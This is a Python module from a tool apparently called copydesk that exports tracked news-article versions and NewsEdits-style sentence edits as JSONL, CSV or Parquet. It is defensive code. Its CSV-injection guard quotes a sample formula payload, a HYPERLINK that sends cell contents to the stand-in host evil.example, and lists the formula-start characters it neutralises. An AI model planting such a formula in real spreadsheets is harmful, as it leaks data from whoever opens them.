"""Research exports: versions, or sentence-level edits, as JSONL, CSV or Parquet.

`--what versions` (the default) gives one record per version (`version_row`); in JSONL, the
lifecycle events follow as `"record": "event"` lines. `--what edits` gives one record per
sentence-level edit.

The edit records follow the NewsEdits corpus: for each pair of consecutive visible versions of
an article, every body sentence that was added, removed, edited (with its old form) or moved,
with the article, source, version numbers and capture times, so researchers can load them
without re-running the diff.
"""

from __future__ import annotations

import csv
import importlib
import json
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from itertools import groupby
from pathlib import Path
from typing import Any, TextIO

from copydesk.diff import sentence_edits
from copydesk.errors import UsageError
from copydesk.records import EventRow, TrackedArticle, Version

EDIT_FIELDS = (
    "article_url",
    "source",
    "article_id",
    "old_version",
    "new_version",
    "old_captured_at",
    "new_captured_at",
    "op",
    "old_sentence",
    "new_sentence",
    "old_index",
    "new_index",
)
EDIT_FORMATS = ("edits-jsonl", "csv", "parquet")  # edits-jsonl: the old name of jsonl edits
TABLE_FORMATS = ("jsonl", "csv", "parquet")
# The columns of a version in CSV and Parquet (JSONL has the same keys, `record` first).
VERSION_FIELDS = (
    "article_url",
    "source",
    "version",
    "captured_at",
    "title",
    "byline",
    "published_at",
    "paragraphs",
    "text",
    "trivial",
    "change",
    "flags",
    "html_sha256",
    "origin",
    "origin_file",
    "origin_record",
    "memento_url",
)
_PARQUET_BATCH = 10_000  # rows per row group: bounded memory on large stores


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def version_row(article: TrackedArticle, version: Version) -> dict[str, Any]:
    """The documented `--format jsonl` record of one version."""
    return {
        "record": "version",
        "article_url": article.url,
        "source": article.source,
        "version": version.number,
        "captured_at": _iso(version.captured_at),
        "title": version.title,
        "byline": version.byline,
        "published_at": version.published_at,
        "paragraphs": list(version.paragraphs),
        "text": version.text,
        "trivial": version.trivial,
        "change": version.change_kind,
        "flags": list(version.change_flags),
        "html_sha256": version.html_hash,
        "origin": version.provenance.origin.value,
        "origin_file": version.provenance.file,
        "origin_record": version.provenance.record_id,
        "memento_url": version.provenance.memento_url,
    }


def event_rows(rows: Iterable[EventRow]) -> Iterator[dict[str, Any]]:
    """The `--format jsonl` records of lifecycle events: `"record": "event"` tells them apart."""
    for row in rows:
        event = row.event
        yield {
            "record": "event",
            "article_url": event.new_url or event.url,
            "source": row.source,
            "title": row.title,
            "event": event.kind.value,
            "at": _iso(event.at),
            "url": event.url,
            "new_url": event.new_url,
            "status": event.status,
        }


def export_rows(
    pairs: Iterable[tuple[TrackedArticle, Version]],
) -> Iterator[dict[str, Any]]:
    for article, version in pairs:
        yield version_row(article, version)


def edit_rows(pairs: Iterable[tuple[TrackedArticle, Version]]) -> Iterator[dict[str, Any]]:
    """Sentence edits between consecutive versions of each article, in the order given.

    `pairs` is what `Store.iter_export()` yields: articles one after another, versions in order.
    Capture times are timezone-aware UTC datetimes; writers format them.
    """
    for _, group in groupby(pairs, key=lambda pair: pair[0].id):
        previous: Version | None = None
        for article, version in group:
            if previous is not None:
                yield from _pair_rows(article, previous, version)
            previous = version


def _pair_rows(article: TrackedArticle, old: Version, new: Version) -> Iterator[dict[str, Any]]:
    head = {
        "article_url": article.url,
        "source": article.source,
        "article_id": article.id,
        "old_version": old.number,
        "new_version": new.number,
        "old_captured_at": old.captured_at.astimezone(UTC),
        "new_captured_at": new.captured_at.astimezone(UTC),
    }
    for edit in sentence_edits(old, new):
        yield head | {
            "op": edit.op,
            "old_sentence": edit.old,
            "new_sentence": edit.new,
            "old_index": edit.old_index,
            "new_index": edit.new_index,
        }


def write_edits(rows: Iterable[dict[str, Any]], fmt: str, stream: TextIO | None, path: str) -> int:
    """Write edit rows as `fmt` to `stream` (text formats) or `path`; returns the row count."""
    if fmt == "parquet":
        return write_parquet(rows, Path(path))
    if stream is None:
        raise UsageError(f"--format {fmt} needs an output stream")
    if fmt == "csv":
        return write_csv(rows, stream)
    if fmt in ("jsonl", "edits-jsonl"):
        return write_jsonl(rows, stream)
    raise UsageError(f"unknown edit export format: {fmt} (use {', '.join(TABLE_FORMATS)})")


def write_versions(
    rows: Iterable[dict[str, Any]], fmt: str, stream: TextIO | None, path: str
) -> int:
    """Version rows as CSV (paragraphs as a JSON array in one cell) or typed Parquet."""
    if fmt == "parquet":
        return _write_version_parquet(rows, Path(path))
    if fmt != "csv" or stream is None:
        raise UsageError(f"versions as {fmt}: use jsonl, csv or parquet")
    writer = csv.DictWriter(
        stream, fieldnames=VERSION_FIELDS, lineterminator="\n", extrasaction="ignore"
    )
    writer.writeheader()
    count = 0
    for row in rows:
        cells = row | {
            "paragraphs": json.dumps(row["paragraphs"], ensure_ascii=False),
            "flags": " ".join(row["flags"]),
        }
        writer.writerow(_csv_row(cells))
        count += 1
    return count


def _write_version_parquet(rows: Iterable[dict[str, Any]], path: Path) -> int:
    pa, _ = _pyarrow()
    schema = pa.schema(
        [
            ("article_url", pa.string()),
            ("source", pa.string()),
            ("version", pa.int64()),
            ("captured_at", pa.timestamp("us", tz="UTC")),
            ("title", pa.string()),
            ("byline", pa.string()),
            ("published_at", pa.string()),
            ("paragraphs", pa.list_(pa.string())),
            ("text", pa.string()),
            ("trivial", pa.bool_()),
            ("change", pa.string()),
            ("flags", pa.list_(pa.string())),
            ("html_sha256", pa.string()),
            ("origin", pa.string()),
            ("origin_file", pa.string()),
            ("origin_record", pa.string()),
            ("memento_url", pa.string()),
        ]
    )
    typed = (
        {k: row[k] for k in VERSION_FIELDS}
        | {"captured_at": datetime.fromisoformat(row["captured_at"].replace("Z", "+00:00"))}
        for row in rows
    )
    return _write_parquet_table(typed, path, schema)


def write_jsonl(rows: Iterable[dict[str, Any]], stream: TextIO) -> int:
    count = 0
    for row in rows:
        stream.write(json.dumps(_textual(row), ensure_ascii=False) + "\n")
        count += 1
    return count


# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection");
# the full-width forms too, in some locales.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def formula_safe(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula gets a leading `'` (OWASP).

    `=HYPERLINK("http://evil.example/?x="&A1,…)` in an article must stay text in Excel and
    LibreOffice. Numbers, empty cells and JSONL/Parquet exports are left exact.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _csv_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: formula_safe(value) for key, value in row.items()}


def write_csv(rows: Iterable[dict[str, Any]], stream: TextIO) -> int:
    """RFC 4180 CSV with a header; empty cells stand for missing values; formulas neutralised."""
    writer = csv.DictWriter(stream, fieldnames=EDIT_FIELDS, lineterminator="\n")
    writer.writeheader()
    count = 0
    for row in rows:
        writer.writerow(_csv_row(_textual(row)))
        count += 1
    return count


def write_parquet(rows: Iterable[dict[str, Any]], path: Path) -> int:
    """Typed Parquet (UTC timestamps, nullable integers), written in bounded row groups."""
    pa, _ = _pyarrow()
    schema = pa.schema(
        [
            ("article_url", pa.string()),
            ("source", pa.string()),
            ("article_id", pa.int64()),
            ("old_version", pa.int64()),
            ("new_version", pa.int64()),
            ("old_captured_at", pa.timestamp("us", tz="UTC")),
            ("new_captured_at", pa.timestamp("us", tz="UTC")),
            ("op", pa.string()),
            ("old_sentence", pa.string()),
            ("new_sentence", pa.string()),
            ("old_index", pa.int64()),
            ("new_index", pa.int64()),
        ]
    )
    return _write_parquet_table(rows, path, schema)


def _write_parquet_table(rows: Iterable[dict[str, Any]], path: Path, schema: Any) -> int:
    pa, pq = _pyarrow()
    count = 0
    try:
        with pq.ParquetWriter(str(path), schema) as writer:
            batch: list[dict[str, Any]] = []
            for row in rows:
                batch.append(row)
                if len(batch) >= _PARQUET_BATCH:
                    writer.write_table(pa.Table.from_pylist(batch, schema=schema))
                    count, batch = count + len(batch), []
            writer.write_table(pa.Table.from_pylist(batch, schema=schema))
            count += len(batch)
    except OSError as exc:
        raise UsageError(f"cannot write {path}: {exc.strerror or exc}") from exc
    return count


def _pyarrow() -> tuple[Any, Any]:
    """Import pyarrow and pyarrow.parquet, or fail with one line saying how to install them."""
    try:
        return importlib.import_module("pyarrow"), importlib.import_module("pyarrow.parquet")
    except ImportError as exc:
        raise UsageError("--format parquet needs pyarrow: pip install 'copydesk[parquet]'") from exc


def _textual(row: dict[str, Any]) -> dict[str, Any]:
    """The row with capture times as ISO 8601 UTC strings, for text formats."""
    return row | {
        "old_captured_at": _iso(row["old_captured_at"]),
        "new_captured_at": _iso(row["new_captured_at"]),
    }
